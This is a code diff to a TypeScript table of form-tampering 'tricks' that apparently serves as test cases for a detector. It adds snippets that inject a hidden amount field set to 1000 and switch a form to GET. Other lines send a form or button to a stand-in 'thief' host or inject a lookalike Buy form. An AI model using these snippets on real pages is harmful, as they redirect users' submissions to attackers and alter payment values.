@@ -79,6 +79,11 @@ const on = (event: string, does: string): string =>
 const TWIN = `document.body.insertAdjacentHTML('beforeend', '<form method=post action="' + thief + '/buy"><button id=buy>Buy</button></form>')`;
 
 const TRICKS: Readonly<Record<string, Trick>> = {
+  'changes a field that nobody sees': {
+    first: `form.insertAdjacentHTML('beforeend', '<input type=hidden name=amount value=1>')`,
+    then: `form.elements.amount.value = '1000'`,
+  },
+  'changes its method': { then: `form.method = 'get'` },
   'changes where its form is sent': { then: `form.action = thief + '/buy'` },
   'gives its button a target of its own': { then: `buy.formAction = thief + '/buy'` },
   'moves its button to another form': {
